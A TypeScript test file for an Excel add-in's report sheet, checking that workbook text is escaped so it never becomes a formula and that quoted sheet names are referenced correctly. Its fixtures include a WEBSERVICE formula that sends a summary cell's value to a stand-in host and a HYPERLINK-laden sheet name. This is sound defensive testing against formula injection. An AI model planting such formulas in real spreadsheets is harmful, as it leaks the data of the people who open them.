import type { Finding } from "../../src/berap";
import { asText, cellReference, writeReportSheet } from "../../src/workbook/officeReport";
import { ruleName } from "../../src/taskpane/check/present";
import { FakeContext } from "../support/fakeExcel";

/*
 * The report sheet through the strict fake of Excel, whose `values` behave as typing does: "=..." and
 * "+", "-", "@" before a word become formulas unless the cell is Text or the value starts with an apostrophe.
 */
const HOSTILE_SHEET = '=HYPERLINK("http://x";"y")\'s blad';
const TEXTS = [
  '=WEBSERVICE("https://voorbeeld.invalid/?"&ENCODEURL(Samenvatting!B5))',
  "+1+1",
  "-Inhuur personeel",
  "@SOM(A1:A3)",
  "2025",
];

function finding(over: Partial<Finding>): Finding {
  return {
    regel: "lijst-totaal",
    ernst: "fout",
    blad: "Blad1",
    cel: "B2",
    bericht: "x",
    verwacht: 436,
    gevonden: 438,
    ...over,
  };
}

describe("report sheet", () => {
  function write(findings: Finding[]) {
    const ctx = new FakeContext();
    ctx.addSheet("Blad1");
    ctx.addSheet(HOSTILE_SHEET);
    return writeReportSheet(ctx.excel, findings, {
      ruleName,
      numberFormat: (f) => (f.regel === "percentages" ? "0.0%" : "#,##0"),
      severity: (f) => (f.ernst === "fout" ? "Fout" : "Info"),
    }).then((name) => ({ ctx, sheet: ctx.sheets.find((s) => s.name === name)! }));
  }

  it("writes every text from the workbook as text, never as a formula", async () => {
    const findings = TEXTS.map((t, i) =>
      finding({ blad: i === 0 ? HOSTILE_SHEET : "Blad1", bericht: t, gevonden: t, verwacht: null })
    );
    const { sheet } = await write(findings);
    const cells = [...sheet.cells.values()];
    expect(cells.filter((c) => c.formula !== undefined)).toEqual([]);
    // Row i+1 holds finding i: the message in column D (3) and the found text in column F (5), unchanged.
    TEXTS.forEach((t, i) => {
      expect(sheet.cell(i + 1, 3).value).toBe(t);
      expect(sheet.cell(i + 1, 5).value).toBe(t);
    });
    expect(sheet.cell(1, 1).value).toBe(HOSTILE_SHEET);
  });

  it("links each cell, names the rule plainly and formats figures as their cells do", async () => {
    const { sheet, ctx } = await write([
      finding({ blad: HOSTILE_SHEET, cel: "D24" }),
      finding({ regel: "percentages", cel: "B8", verwacht: 0.071, gevonden: 0.072 }),
      finding({
        regel: "totaal-zonder-formule",
        ernst: "info",
        cel: "",
        verwacht: null,
        gevonden: 3,
      }),
    ]);
    expect(sheet.cell(1, 2).hyperlink).toEqual({
      documentReference: `'=HYPERLINK("http://x";"y")''s blad'!D24`,
      textToDisplay: "D24",
      screenTip: `Ga naar ${HOSTILE_SHEET} D24`,
    });
    expect(sheet.cell(3, 2).hyperlink).toBeUndefined();
    expect([1, 2, 3].map((r) => sheet.cell(r, 6).value)).toEqual([
      "Totaal van de ontwikkelingen",
      "Percentagetabel",
      "Totaal ingetypt",
    ]);
    // Er staat, volgens de tabel, verschil: numbers with the cell's own format (438 - 436 = 2; 7,2% - 7,1% = 0,1%).
    expect([4, 5, 7].map((c) => [sheet.cell(1, c).value, sheet.cell(1, c).numFmt])).toEqual([
      [436, "#,##0"],
      [438, "#,##0"],
      [2, "#,##0"],
    ]);
    expect([4, 5, 7].map((c) => [sheet.cell(2, c).value, sheet.cell(2, c).numFmt])).toEqual([
      [0.071, "0.0%"],
      [0.072, "0.0%"],
      [0.001, "0.0%"],
    ]);
    expect(sheet.frozenRows).toBe(1);
    expect(ctx.active).toBe(sheet.name);
  });

  it("marks as text exactly what Excel would otherwise read as formula or number", () => {
    expect(["=A1", "+1", "-x", "@x", "'x", "12,5", "Almelo", "a=b"].map(asText)).toEqual([
      "'=A1",
      "'+1",
      "'-x",
      "'@x",
      "''x",
      "'12,5",
      "Almelo",
      "a=b",
    ]);
    expect(cellReference("Piet's", "A1")).toBe("'Piet''s'!A1");
  });
});
